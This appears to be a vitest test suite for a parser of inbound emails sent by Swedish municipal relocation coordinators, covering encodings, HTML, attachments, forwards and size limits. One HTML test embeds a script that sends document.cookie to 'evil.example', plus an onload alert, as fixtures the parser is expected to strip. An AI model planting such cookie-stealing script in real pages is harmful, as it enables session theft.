import { describe, it, expect } from 'vitest';
import {
  DEFAULT_MAX_BYTES,
  InboundEmailTooLarge,
  MAX_TEXT_CHARS,
  TEXT_TRUNCATED_MARKER,
  parseInboundEmail,
} from '../mail/parse-inbound-email.js';

// A corpus of the shapes coordinators' mail clients actually send, written the way they
// arrive on the wire. Messages are typed with LF for readability and sent with CRLF.
function eml(source: string): string {
  return source.replace(/^\n/, '').replace(/\r?\n/g, '\r\n');
}

/** Base64 the way MIME writers wrap it: 76 characters a line. */
function base64Lines(content: Buffer): string {
  return (content.toString('base64').match(/.{1,76}/g) ?? []).join('\n');
}

// 10:12 in Stockholm on 3 March 2025 (winter time, +01:00).
const MARCH_3_1012_STOCKHOLM = new Date('2025-03-03T09:12:00.000Z');

describe('parseInboundEmail: headers', () => {
  it('reads sender, recipients, subject, date and thread ids of an ordinary message', async () => {
    const raw = eml(`
Return-Path: <erik.lund@ostersund.se>
Received: from mail.ostersund.se (mail.ostersund.se [192.0.2.10])
\tby mx.example.se with ESMTPS id 4Z1abc; Mon, 03 Mar 2025 10:12:05 +0100
From: Erik Lund <Erik.Lund@Ostersund.se>
To: "Anna Berg" <anna.berg@example.se>, maria@example.se
Cc: Region JH <inflytt@regionjh.se>
Reply-To: Erik Lund <erik.lund@ostersund.se>
Bcc: capture+ostersund@inflytt.example.se
Subject: Re: Bostad i Brunflo
Date: Mon, 3 Mar 2025 10:12:00 +0100
Message-ID: <CAF=Xb9k3@mail.ostersund.se>
In-Reply-To: <20250301.4711@example.se>
References: <20250228.0815@example.se>
 <20250301.4711@example.se>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit

Hej Anna,

det finns lediga lägenheter i Brunflo från april.

Hälsningar
Erik
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed).toMatchObject({
      messageId: 'CAF=Xb9k3@mail.ostersund.se',
      subject: 'Re: Bostad i Brunflo',
      date: MARCH_3_1012_STOCKHOLM,
      from: { address: 'erik.lund@ostersund.se', name: 'Erik Lund' },
      to: [
        { address: 'anna.berg@example.se', name: 'Anna Berg' },
        { address: 'maria@example.se', name: null },
      ],
      cc: [{ address: 'inflytt@regionjh.se', name: 'Region JH' }],
      replyTo: [{ address: 'erik.lund@ostersund.se', name: 'Erik Lund' }],
      inReplyTo: '20250301.4711@example.se',
      references: ['20250228.0815@example.se', '20250301.4711@example.se'],
      attachments: [],
      forwarded: null,
    });
    expect(parsed.text).toBe('Hej Anna,\n\ndet finns lediga lägenheter i Brunflo från april.\n\nHälsningar\nErik');
  });

  it('accepts a Message-ID without angle brackets and trims it', async () => {
    const raw = eml(`
From: anna@example.se
Message-Id:   1741000000.12345@webmail.example.se  
In-Reply-To: 1740999999.1@webmail.example.se
References: <a1@example.se><a2@example.se>
Subject: Hej

Hej
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.messageId).toBe('1741000000.12345@webmail.example.se');
    expect(parsed.inReplyTo).toBe('1740999999.1@webmail.example.se');
    expect(parsed.references).toEqual(['a1@example.se', 'a2@example.se']);
  });

  it('leaves ids, subject and date empty when the headers are missing', async () => {
    const parsed = await parseInboundEmail(eml(`
From: anna@example.se

Bara text.
`));

    expect(parsed).toMatchObject({ messageId: null, inReplyTo: null, references: [], subject: '', date: null });
    expect(parsed.text).toBe('Bara text.');
  });

  it('gives no date, rather than the current time, when the Date header is unreadable', async () => {
    const parsed = await parseInboundEmail(eml(`
From: anna@example.se
Date: sometime last week
Subject: Hej

Hej
`));

    expect(parsed.date).toBeNull();
  });
});

describe('parseInboundEmail: Swedish characters in headers and bodies', () => {
  it('decodes ISO-8859-1 encoded words in headers and a quoted-printable ISO-8859-1 body', async () => {
    const raw = eml(`
From: =?ISO-8859-1?Q?=C5re_kommun?= <inflytt@are.se>
To: =?ISO-8859-1?Q?Bj=F6rn_=C4lmhult?= <bjorn@example.se>
Subject: =?ISO-8859-1?Q?Fr=E5ga_om_f=F6rskola_i_=C5re?=
Date: Tue, 4 Mar 2025 08:30:00 +0100
Message-ID: <old-client.1@are.se>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

Hej Bj=F6rn!

Vi har plats p=E5 f=F6rskolan i =C5re fr=E5n augusti. H=F6r g=E4rna av dig=
 s=E5 bokar vi ett bes=F6k.

=C5re kommun
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.from).toEqual({ address: 'inflytt@are.se', name: 'Åre kommun' });
    expect(parsed.to).toEqual([{ address: 'bjorn@example.se', name: 'Björn Älmhult' }]);
    expect(parsed.subject).toBe('Fråga om förskola i Åre');
    expect(parsed.text).toBe(
      'Hej Björn!\n\nVi har plats på förskolan i Åre från augusti. Hör gärna av dig så bokar vi ett besök.\n\nÅre kommun',
    );
  });

  it('decodes a base64 UTF-8 subject and raw UTF-8 display names', async () => {
    const raw = eml(`
From: Märta Öström <marta.ostrom@example.se>
To: =?UTF-8?Q?H=C3=A4rjedalens_kommun?= <flytt@herjedalen.se>
Subject: =?UTF-8?B?${Buffer.from('Flytt till Sveg – skola åt barnen i höst').toString('base64')}?=
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

Vi kommer från Göteborg.
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.subject).toBe('Flytt till Sveg – skola åt barnen i höst');
    expect(parsed.from).toEqual({ address: 'marta.ostrom@example.se', name: 'Märta Öström' });
    expect(parsed.to).toEqual([{ address: 'flytt@herjedalen.se', name: 'Härjedalens kommun' }]);
    expect(parsed.text).toBe('Vi kommer från Göteborg.');
  });
});

describe('parseInboundEmail: body text', () => {
  it('uses the text/plain part of a multipart/alternative message', async () => {
    const raw = eml(`
From: Anna Berg <anna@example.se>
To: erik.lund@ostersund.se
Subject: Skola
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="000000000000a1b2c3"

--000000000000a1b2c3
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

Hej! Finns det plats i skolan i Lit?

--000000000000a1b2c3
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr"><b>HTML-versionen</b> av samma fr=C3=A5ga</div>

--000000000000a1b2c3--
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.text).toBe('Hej! Finns det plats i skolan i Lit?');
  });

  it('reduces an HTML-only message to plain text without tags, script or style content', async () => {
    const raw = eml(`
From: Nyhetsbrev <info@example.se>
To: erik.lund@ostersund.se
Subject: Nyhetsbrev
MIME-Version: 1.0
Content-Type: text/html; charset=us-ascii

<!DOCTYPE html>
<html><head><title>Veckans nyheter</title>
<style type="text/css">p { color: #ff0000; } .dold { display: none; }</style>
<script>window.location = "https://evil.example/steal?c=" + document.cookie;</script>
</head>
<body onload="alert('x')">
<!-- tracking: id 12345 -->
<p>Hej!</p>
<p>Vi bor i V&auml;ster&aring;s och vill flytta till &Ouml;stersund &amp; Krokom,<br>helst n&auml;ra sj&ouml;n.</p>
<table><tr><td>Barn:</td><td>2</td></tr></table>
<script type="text/javascript">
  document.write("<p>injected</p>");
</script>
<p title="a > b">H&auml;lsningar&nbsp;Anna &lt;3 &#8211; &#xE5;</p>
</body></html>
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.text).toBe(
      'Hej!\n\nVi bor i Västerås och vill flytta till Östersund & Krokom,\nhelst nära sjön.\n\nBarn: 2\n\nHälsningar Anna <3 – å',
    );
    for (const leaked of ['window.location', 'document', 'injected', 'color', 'Veckans', 'tracking', 'alert', '<p', 'a > b']) {
      expect(parsed.text).not.toContain(leaked);
    }
  });

  it('lists attachments of a nested mixed/related/alternative message without keeping their contents', async () => {
    const pdf = Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n' +
        Array.from({ length: 40 }, (_, page) => `${page + 3} 0 obj << /Length 44 >> stream BT /F1 12 Tf (Sida ${page}) Tj ET endstream endobj\n`).join('') +
        '%%EOF\n',
    );
    const logo = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
    const raw = eml(`
From: Erik Lund <erik.lund@ostersund.se>
To: anna@example.se
Bcc: capture@inflytt.example.se
Subject: =?UTF-8?Q?V=C3=A4lkomstpaket?=
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed-1"

--mixed-1
Content-Type: multipart/related; boundary="related-1"; type="multipart/alternative"

--related-1
Content-Type: multipart/alternative; boundary="alt-1"

--alt-1
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit

Välkommen till Östersund! Broschyren ligger bifogad.

--alt-1
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: 8bit

<p><img src="cid:logo@ostersund.se"> Välkommen till Östersund! Broschyren ligger bifogad.</p>

--alt-1--

--related-1
Content-Type: image/png; name="logo.png"
Content-Transfer-Encoding: base64
Content-ID: <logo@ostersund.se>
Content-Disposition: inline; filename="logo.png"

${base64Lines(logo)}
--related-1--

--mixed-1
Content-Type: application/pdf; name="=?UTF-8?Q?V=C3=A4lkommen_till_=C3=96stersund.pdf?="
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="=?UTF-8?Q?V=C3=A4lkommen_till_=C3=96stersund.pdf?="

${base64Lines(pdf)}
--mixed-1--
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.text).toBe('Välkommen till Östersund! Broschyren ligger bifogad.');
    expect(parsed.attachments).toEqual([
      { filename: 'logo.png', contentType: 'image/png', size: logo.length },
      { filename: 'Välkommen till Östersund.pdf', contentType: 'application/pdf', size: pdf.length },
    ]);
    const serialized = JSON.stringify(parsed);
    expect(serialized).not.toContain(pdf.toString('base64').slice(0, 76));
    expect(serialized).not.toContain(logo.toString('base64'));
    expect(serialized).not.toContain('%PDF');
    expect(serialized).not.toContain('/Catalog');
  });
});

describe('parseInboundEmail: forwarded messages', () => {
  it('reads the forwarded header block of a Gmail forward', async () => {
    const raw = eml(`
From: Erik Lund <erik.lund@ostersund.se>
To: capture@inflytt.example.se
Subject: Fwd: Flytt till Östersund
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="0000000000009f8e7d"

--0000000000009f8e7d
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

Loggar detta.

---------- Forwarded message ---------
From: Anna Berg <Anna.Berg@Example.se>
Date: Mon, Mar 3, 2025 at 10:12 AM
Subject: Flytt till =C3=96stersund
To: <erik.lund@ostersund.se>
Cc: Per Berg <per@example.se>


Hej Erik! Vi funderar p=C3=A5 att flytta till =C3=96stersund.

--0000000000009f8e7d
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr">Loggar detta.<br><br><div class=3D"gmail_quote"><div dir=3D"ltr" class=3D"gmail_attr">---------- Forwarded message ---------<br>From: <strong class=3D"gmail_sendername" dir=3D"auto">Anna Berg</strong> <span dir=3D"auto">&lt;<a href=3D"mailto:Anna.Berg@Example.se">Anna.Berg@Example.se</a>&gt;</span><br>Date: Mon, Mar 3, 2025 at 10:12 AM<br>Subject: Flytt till =C3=96stersund<br>To: &lt;<a href=3D"mailto:erik.lund@ostersund.se">erik.lund@ostersund.se</a>&gt;<br></div><br><br><div dir=3D"ltr">Hej Erik! Vi funderar p=C3=A5 att flytta till =C3=96stersund.</div></div></div>

--0000000000009f8e7d--
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.forwarded).toEqual({
      from: { address: 'anna.berg@example.se', name: 'Anna Berg' },
      to: [{ address: 'erik.lund@ostersund.se', name: null }],
      date: MARCH_3_1012_STOCKHOLM,
      subject: 'Flytt till Östersund',
    });
    expect(parsed.text).toContain('Hej Erik! Vi funderar på att flytta till Östersund.');
  });

  it('reads the forwarded header block from the HTML part when there is no text part', async () => {
    const raw = eml(`
From: Erik Lund <erik.lund@ostersund.se>
Subject: Fwd: Flytt
Content-Type: text/html; charset="UTF-8"

<div dir="ltr"><div class="gmail_quote"><div dir="ltr" class="gmail_attr">---------- Forwarded message ---------<br>From: <strong class="gmail_sendername" dir="auto">Anna Berg</strong> <span dir="auto">&lt;<a href="mailto:anna@example.se">anna@example.se</a>&gt;</span><br>Date: Mon, 3 Mar 2025 at 10:12<br>Subject: Flytt<br>To: Erik Lund &lt;<a href="mailto:erik.lund@ostersund.se">erik.lund@ostersund.se</a>&gt;<br></div><br><br>Hej!</div></div>
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.forwarded).toEqual({
      from: { address: 'anna@example.se', name: 'Anna Berg' },
      to: [{ address: 'erik.lund@ostersund.se', name: 'Erik Lund' }],
      date: MARCH_3_1012_STOCKHOLM,
      subject: 'Flytt',
    });
  });

  it('reads an English Outlook "-----Original Message-----" block with [mailto:] addresses', async () => {
    const raw = eml(`
From: Erik Lund <erik.lund@ostersund.se>
To: capture@inflytt.example.se
Subject: FW: Question about moving
Content-Type: text/plain; charset="us-ascii"

FYI

-----Original Message-----
From: Anna Berg [mailto:anna@example.se]
Sent: Monday, March 3, 2025 10:12 AM
To: Erik Lund <erik.lund@ostersund.se>; Maria Ek [mailto:maria.ek@ostersund.se]
Subject: Question about moving

Hi Erik, is there housing in Brunflo?
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.forwarded).toEqual({
      from: { address: 'anna@example.se', name: 'Anna Berg' },
      to: [
        { address: 'erik.lund@ostersund.se', name: 'Erik Lund' },
        { address: 'maria.ek@ostersund.se', name: 'Maria Ek' },
      ],
      date: MARCH_3_1012_STOCKHOLM,
      subject: 'Question about moving',
    });
  });

  it('reads a Swedish Outlook Från/Skickat/Till/Ämne block below a rule', async () => {
    const raw = eml(`
From: Erik Lund <erik.lund@ostersund.se>
To: capture@inflytt.example.se
Subject: VB: Flytt till Östersund
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit

Se nedan.

________________________________
Från: Anna Berg <anna@example.se>
Skickat: den 3 mars 2025 10:12
Till: Erik Lund <erik.lund@ostersund.se<mailto:erik.lund@ostersund.se>>
Ämne: Flytt till Östersund

Hej Erik!
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.forwarded).toEqual({
      from: { address: 'anna@example.se', name: 'Anna Berg' },
      to: [{ address: 'erik.lund@ostersund.se', name: 'Erik Lund' }],
      date: MARCH_3_1012_STOCKHOLM,
      subject: 'Flytt till Östersund',
    });
  });

  it('reads a Swedish Outlook block from HTML with bold labels', async () => {
    const raw = eml(`
From: Erik Lund <erik.lund@ostersund.se>
Subject: VB: Flytt
MIME-Version: 1.0
Content-Type: text/html; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

<html xmlns:o=3D"urn:schemas-microsoft-com:office:office"><head><!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]--><style><!-- p.MsoNormal {margin:0cm;} --></style></head>
<body lang=3D"SV"><div class=3D"WordSection1"><p class=3D"MsoNormal">Loggar.<o:p></o:p></p>
<div style=3D"border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class=3D"MsoNormal"><b>Fr=E5n:</b> Anna Berg &lt;anna@example.se&gt; <br><b>Skickat:</b> m=E5ndag 3 mars 2025 10:12<br><b>Till:</b> Erik Lund &lt;erik.lund@ostersund.se&gt;<br><b>=C4mne:</b> Flytt<o:p></o:p></p></div>
<p class=3D"MsoNormal">Hej Erik!<o:p></o:p></p></div></body></html>
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.forwarded).toEqual({
      from: { address: 'anna@example.se', name: 'Anna Berg' },
      to: [{ address: 'erik.lund@ostersund.se', name: 'Erik Lund' }],
      date: MARCH_3_1012_STOCKHOLM,
      subject: 'Flytt',
    });
    expect(parsed.text).not.toContain('MsoNormal');
  });

  it.each([
    {
      client: 'Apple Mail in English',
      body: `
Begin forwarded message:

From: Anna Berg <anna@example.se>
Subject: Flytt till Östersund
Date: 3 March 2025 at 10:12:00 CET
To: Erik Lund <erik.lund@ostersund.se>

Hej Erik!`,
    },
    {
      client: 'Apple Mail in Swedish',
      body: `
Början på vidarebefordrat brev:

Från: Anna Berg <anna@example.se>
Ämne: Flytt till Östersund
Datum: 3 mars 2025 kl. 10:12:00 CET
Till: Erik Lund <erik.lund@ostersund.se>

Hej Erik!`,
    },
  ])('reads the forwarded block of $client', async ({ body }) => {
    const raw = eml(`
From: Erik Lund <erik.lund@ostersund.se>
To: capture@inflytt.example.se
Subject: Fwd: Flytt till Östersund
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Till kontaktkortet.
${body}
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.forwarded).toEqual({
      from: { address: 'anna@example.se', name: 'Anna Berg' },
      to: [{ address: 'erik.lund@ostersund.se', name: 'Erik Lund' }],
      date: MARCH_3_1012_STOCKHOLM,
      subject: 'Flytt till Östersund',
    });
  });

  it('reads the headers of a message forwarded as a message/rfc822 attachment', async () => {
    const raw = eml(`
From: Erik Lund <erik.lund@ostersund.se>
To: capture@inflytt.example.se
Subject: FW: Flytt till Östersund
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/plain; charset=utf-8

Bifogar Annas mejl.

--outer
Content-Type: message/rfc822; name="Flytt till Östersund.eml"
Content-Disposition: attachment; filename="Flytt.eml"

From: =?UTF-8?Q?Anna_Berg_=C3=85str=C3=B6m?= <Anna@Example.se>
To: Erik Lund <erik.lund@ostersund.se>, region@regionjh.se
Subject: =?UTF-8?Q?Flytt_till_=C3=96stersund?=
Date: Mon, 3 Mar 2025 10:12:00 +0100
Message-ID: <inner.1@example.se>
Content-Type: text/plain; charset=utf-8

Hej Erik!

--outer--
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.forwarded).toEqual({
      from: { address: 'anna@example.se', name: 'Anna Berg Åström' },
      to: [
        { address: 'erik.lund@ostersund.se', name: 'Erik Lund' },
        { address: 'region@regionjh.se', name: null },
      ],
      date: MARCH_3_1012_STOCKHOLM,
      subject: 'Flytt till Östersund',
    });
    expect(parsed.messageId).toBeNull();
    expect(parsed.text).toBe('Bifogar Annas mejl.');
    expect(parsed.attachments).toEqual([{ filename: 'Flytt.eml', contentType: 'message/rfc822', size: expect.any(Number) }]);
    expect(JSON.stringify(parsed)).not.toContain('Hej Erik!');
  });

  it('finds no forward in a plain reply or in a sentence that starts with "From:"', async () => {
    const raw = eml(`
From: Anna Berg <anna@example.se>
To: erik.lund@ostersund.se
Subject: Re: Flytt
Content-Type: text/plain; charset=utf-8

From: mitten av april kan vi komma på besök.

On Mon, 3 Mar 2025 at 10:12, Erik Lund <erik.lund@ostersund.se> wrote:
> Välkomna!
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.forwarded).toBeNull();
  });
});

describe('parseInboundEmail: size limits', () => {
  it('parses a 5 MB message quickly and truncates its text with a marker', async () => {
    const line = 'Vi planerar att flytta till Östersund i sommar med två barn.\n';
    const body = line.repeat(Math.ceil((5 * 1024 * 1024) / Buffer.byteLength(line)));
    const raw = eml(`
From: Anna Berg <anna@example.se>
Subject: Långt brev
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

${body}`);

    const startedAt = performance.now();
    const parsed = await parseInboundEmail(raw);
    const elapsedMs = performance.now() - startedAt;

    expect(elapsedMs).toBeLessThan(10_000);
    expect(parsed.subject).toBe('Långt brev');
    expect(parsed.text).toHaveLength(MAX_TEXT_CHARS + TEXT_TRUNCATED_MARKER.length);
    expect(parsed.text.startsWith(line)).toBe(true);
    expect(parsed.text.endsWith(TEXT_TRUNCATED_MARKER)).toBe(true);
  });

  it('truncates long HTML-only text the same way', async () => {
    const raw = eml(`
From: anna@example.se
Content-Type: text/html; charset=utf-8

<html><body>${'<p>Hej &aring; <b>h&ouml;j</b></p>'.repeat(30_000)}</body></html>
`);
    const parsed = await parseInboundEmail(raw);

    expect(parsed.text).toHaveLength(MAX_TEXT_CHARS + TEXT_TRUNCATED_MARKER.length);
    expect(parsed.text.startsWith('Hej å höj\n\nHej å höj')).toBe(true);
  });

  it('refuses a message over maxBytes', async () => {
    const raw = eml(`
From: anna@example.se
Subject: Hej

${'x'.repeat(2_000)}
`);

    await expect(parseInboundEmail(raw, { maxBytes: 1_000 })).rejects.toBeInstanceOf(InboundEmailTooLarge);
    await expect(parseInboundEmail(Buffer.from(raw), { maxBytes: 1_000 })).rejects.toMatchObject({ maxBytes: 1_000 });
  });

  it('refuses a message over 25 MiB by default', async () => {
    const raw = Buffer.alloc(DEFAULT_MAX_BYTES + 1, 'a');

    expect(DEFAULT_MAX_BYTES).toBe(25 * 1024 * 1024);
    await expect(parseInboundEmail(raw)).rejects.toBeInstanceOf(InboundEmailTooLarge);
  });

  it('counts bytes, not characters, of a string', async () => {
    const raw = eml(`
From: anna@example.se

${'å'.repeat(600)}
`);

    await expect(parseInboundEmail(raw, { maxBytes: 1_000 })).rejects.toBeInstanceOf(InboundEmailTooLarge);
  });
});

describe('parseInboundEmail: garbage', () => {
  const binary = Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 131 + 7) % 256));

  it.each([
    { label: 'a sentence', raw: 'not an email at all' as string | Buffer },
    { label: 'an empty string', raw: '' },
    { label: 'an empty buffer', raw: Buffer.alloc(0) },
    { label: 'binary bytes', raw: binary },
    { label: 'a broken multipart', raw: eml('Content-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: text/html\n\n<p unclosed="\n--y--') },
  ])('gives an empty result for $label without throwing', async ({ raw }) => {
    const parsed = await parseInboundEmail(raw);

    expect(parsed).toMatchObject({
      messageId: null,
      subject: '',
      date: null,
      from: null,
      to: [],
      cc: [],
      replyTo: [],
      inReplyTo: null,
      references: [],
      attachments: [],
      forwarded: null,
    });
    expect(typeof parsed.text).toBe('string');
    expect(parsed.text).not.toMatch(/[^\P{Cc}\t\n]/u);
  });
});
